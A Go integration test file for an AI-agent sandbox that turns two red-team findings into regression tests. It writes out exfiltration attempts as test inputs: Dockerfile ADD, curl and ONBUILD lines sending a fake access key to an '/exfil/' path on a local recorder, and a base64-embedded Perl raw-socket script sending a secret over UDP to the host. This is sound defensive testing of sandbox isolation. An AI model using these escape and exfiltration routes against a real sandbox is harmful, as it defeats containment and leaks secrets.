//go:build integration

package integration

import (
	"encoding/base64"
	"errors"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	dc "github.com/ory/dockertest/v3/docker"
	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/claude-bottle/claude-bottle/internal/itest"
	"github.com/claude-bottle/claude-bottle/pkg/capfile"
	"github.com/claude-bottle/claude-bottle/pkg/contract"
	"github.com/claude-bottle/claude-bottle/pkg/images"
)

// TestCapabilityBuildFetchesNothingOutsideTheBottle is a red-team finding
// turned regression test. The engine's builder fetched a capability
// Dockerfile's ADD <url> (and COPY --from=<image>, git sources) itself,
// from the host's network namespace: no egress, no allowlist, no DLP, the
// host's loopback reachable. Such instructions are now refused before
// anything runs, with the line and the reason, and a recording server on
// the host's loopback sees nothing. The build of an admitted Dockerfile
// runs with the agent's hardening: its RUN line reports the capabilities
// and cgroup limits it got.
func TestCapabilityBuildFetchesNothingOutsideTheBottle(t *testing.T) {
	env := itest.Require(t)
	rig := isolationRig(t, env)
	slug := rig.Plan.Slug

	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	assert.NilError(t, err)
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Method+" "+r.Host+r.URL.RequestURI())
		mu.Unlock()
		_, _ = w.Write([]byte("payload\n"))
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	// Control: the recorder answers on the host's loopback.
	resp, err := http.Get("http://" + ln.Addr().String() + "/control")
	assert.NilError(t, err)
	_ = resp.Body.Close()
	mu.Lock()
	assert.Equal(t, len(seen), 1, "control: the recorder saw nothing of a direct request")
	seen = nil
	mu.Unlock()

	url := "http://" + ln.Addr().String() + "/exfil/AKIAREDTEAMLEAK7Q2Z"
	head := "ARG " + contract.AgentBaseArg + "\nFROM ${" + contract.AgentBaseArg + "}\n"
	before, err := dockerClient(t).InspectContainer(contract.AgentContainer(slug))
	assert.NilError(t, err)
	for name, tc := range map[string]struct{ line, want string }{
		"ADD url":            {"ADD " + url + " /tmp/tool.tgz", "line 3: ADD: the engine itself fetches ADD and COPY sources"},
		"add split":          {"A\\\nDD " + url + " /tmp/tool.tgz", "line 3: ADD"},
		"ADD git":            {"ADD https://127.0.0.1:" + strconv.Itoa(ln.Addr().(*net.TCPAddr).Port) + "/r.git#main /src", "line 3: ADD"},
		"COPY --from image":  {"COPY --from=" + images.AgentTestImage + " /etc/passwd /tmp/p", "line 3: COPY"},
		"ONBUILD":            {"ONBUILD ADD " + url + " /x", "line 3: ONBUILD queues"},
		"RUN --network=host": {"RUN --network=host curl -s " + url, `line 3: RUN with a flag ("--network=host")`},
		"RUN heredoc":        {"RUN <<EOF\ncurl -s " + url + "\nEOF", "line 3: RUN with a heredoc"},
		"RUN --security":     {"RUN --security=insecure true", "RUN with a flag"},
		"unknown":            {"FETCH " + url, `"FETCH" is not an instruction`},
	} {
		_, _, err := rig.Eng.RebuildAgent(t.Context(), slug, head+tc.line+"\n")
		assert.Assert(t, errors.Is(err, capfile.ErrRefused), "%s: %v", name, err)
		assert.Assert(t, is.ErrorContains(err, tc.want), name)
	}
	after, err := dockerClient(t).InspectContainer(contract.AgentContainer(slug))
	assert.NilError(t, err)
	assert.Equal(t, after.ID, before.ID, "a refused Dockerfile leaves the agent untouched")

	// An admitted build runs where the agent runs: it cannot reach the
	// host's loopback either (its 127.0.0.1 is its own), and it reports the
	// capabilities and limits it runs with (then fails on purpose).
	df := head + "RUN curl -s --max-time 5 " + url + "; echo caps=$(grep CapEff /proc/self/status | cut -f2) nnp=$(grep NoNewPrivs /proc/self/status | cut -f2) " +
		"mem=$(cat /sys/fs/cgroup/memory.max 2>/dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes) " +
		"pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max) " +
		"ipv6=$(cat /proc/sys/net/ipv6/conf/all/disable_ipv6) user=$(id -u); exit 3\n"
	_, _, err = rig.Eng.RebuildAgent(t.Context(), slug, df)
	t.Logf("build (fails on purpose, to show its output): %v", err)
	assert.Assert(t, is.ErrorContains(err, "line 3: RUN exited with code 3"))
	// CHOWN DAC_OVERRIDE FOWNER FSETID SETGID SETUID: bits 0 1 3 4 6 7.
	assert.Assert(t, is.ErrorContains(err, "caps=00000000000000db nnp=1 mem=201326592 pids=96 ipv6=1 user=0"))

	// An admitted build is committed with the snapshot's configuration
	// (not the build container's entrypoint) plus the Dockerfile's ENV,
	// WORKDIR, USER and LABEL, and leaves no build container behind.
	df = head + "ARG TOOL=cbtool\nENV CB_TOOL_HOME=/opt/$TOOL PATH=/opt/${TOOL}/bin:$PATH\nWORKDIR /opt/cbtool\nLABEL org.example.tool=$TOOL\n" +
		"RUN mkdir -p bin && printf '#!/bin/sh\\necho tool in $PWD\\n' > bin/cbtool && chmod 755 bin/cbtool && chown -R 1000:1000 /opt/cbtool\nUSER 1000\nRUN test \"$(id -u)\" = 1000 && cbtool\n"
	_, tag, err := rig.Eng.RebuildAgent(t.Context(), slug, df)
	assert.NilError(t, err)
	img, err := dockerClient(t).InspectImage(tag)
	assert.NilError(t, err)
	orig, err := dockerClient(t).InspectImage(images.AgentTestImage)
	assert.NilError(t, err)
	assert.Equal(t, strings.Join(img.Config.Entrypoint, " "), strings.Join(orig.Config.Entrypoint, " "), "the snapshot's entrypoint, not the build container's")
	assert.DeepEqual(t, img.Config.Cmd, orig.Config.Cmd)
	assert.Equal(t, img.Config.WorkingDir, "/opt/cbtool")
	assert.Equal(t, img.Config.User, "1000")
	assert.Equal(t, img.Config.Labels["org.example.tool"], "cbtool")
	assert.Equal(t, img.Config.Labels[contract.LabelSlug], slug)
	assert.Assert(t, is.Contains(strings.Join(img.Config.Env, "\n"), "CB_TOOL_HOME=/opt/cbtool"))
	out, code := agentExec(t, rig, "cbtool && echo home=$CB_TOOL_HOME && id -un")
	assert.Equal(t, code, 0, out)
	assert.Assert(t, is.Contains(out, "home=/opt/cbtool\nagent\n"), out)
	left, err := dockerClient(t).ListContainers(dc.ListContainersOptions{All: true, Filters: map[string][]string{"name": {contract.AgentContainer(slug) + "-capability-build"}}})
	assert.NilError(t, err)
	assert.Equal(t, len(left), 0, "the build container is removed")

	mu.Lock()
	defer mu.Unlock()
	assert.Assert(t, len(seen) == 0, "LEAK: a capability build reached the host's loopback: %q", seen)
}

// TestCapabilityBuildHasNoRawSocket is a red-team finding turned
// regression test. The builder's container had Docker's default
// capabilities (NET_RAW among them) on the bottle's internal network, and
// inhibit_ipv4 does not stop the host from answering ARP there and
// delivering frames sent to the bridge's MAC to its own services: a RUN
// line sent UDP to a host socket with a packet socket. A capability build
// now runs without NET_RAW: the packet socket is refused, nothing arrives.
// The control runs the same attack from a container that has NET_RAW on
// the same network.
func TestCapabilityBuildHasNoRawSocket(t *testing.T) {
	env := itest.Require(t)
	rig := isolationRig(t, env)
	hosts := hostAddresses(t)
	assert.Assert(t, len(hosts) > 0)
	pc, err := net.ListenPacket("udp4", "0.0.0.0:0")
	assert.NilError(t, err)
	t.Cleanup(func() { _ = pc.Close() })
	port := strconv.Itoa(pc.LocalAddr().(*net.UDPAddr).Port)
	got := make(chan string, 4)
	go func() {
		buf := make([]byte, 2048)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			got <- string(buf[:n]) + " from " + from.String()
		}
	}()
	scriptPath, err := filepath.Abs("../scripts/redteam/rawudp.pl")
	assert.NilError(t, err)
	script, err := os.ReadFile(scriptPath)
	assert.NilError(t, err)
	secret := "AKIAREDTEAMRAWLEAK9X"
	df := "ARG " + contract.AgentBaseArg + "\nFROM ${" + contract.AgentBaseArg + "}\n" +
		"RUN echo " + base64.StdEncoding.EncodeToString(script) + " | base64 -d > /tmp/r.pl && " +
		"perl /tmp/r.pl " + hosts[0] + " " + port + " " + secret + "\n"
	_, _, err = rig.Eng.RebuildAgent(t.Context(), rig.Plan.Slug, df)
	t.Logf("build: %v", err)
	assert.Assert(t, is.ErrorContains(err, "packet socket: Operation not permitted"))
	assert.Assert(t, is.ErrorContains(err, "line 3: RUN exited with code"))
	select {
	case s := <-got:
		t.Fatalf("LEAK: a capability build's RUN line sent a UDP datagram to host %s: %q", hosts[0], s)
	case <-time.After(2 * time.Second):
	}

	// Control: with NET_RAW, the same script on the same network reaches
	// the host (this is what a build could do before). If this host does
	// not answer ARP on the bridge the control shows nothing; the
	// assertions above stand on their own (no packet socket at all).
	env.Run(t, itest.RunSpec{Name: "rawudp-control", Image: images.AgentTestImage, Network: contract.InternalNetwork(rig.Plan.Slug),
		User: "0", CapAdd: []string{"NET_RAW"}, Binds: []string{scriptPath + ":/r.pl:ro"}, Entrypoint: []string{"perl"}, Cmd: []string{"/r.pl", hosts[0], port, "control"}})
	select {
	case s := <-got:
		t.Logf("control: with NET_RAW the datagram arrived: %q", s)
		assert.Assert(t, is.Contains(s, "control"))
	case <-time.After(10 * time.Second):
		t.Logf("control: no datagram from the NET_RAW container either (this host does not answer on the bridge)")
	}
}
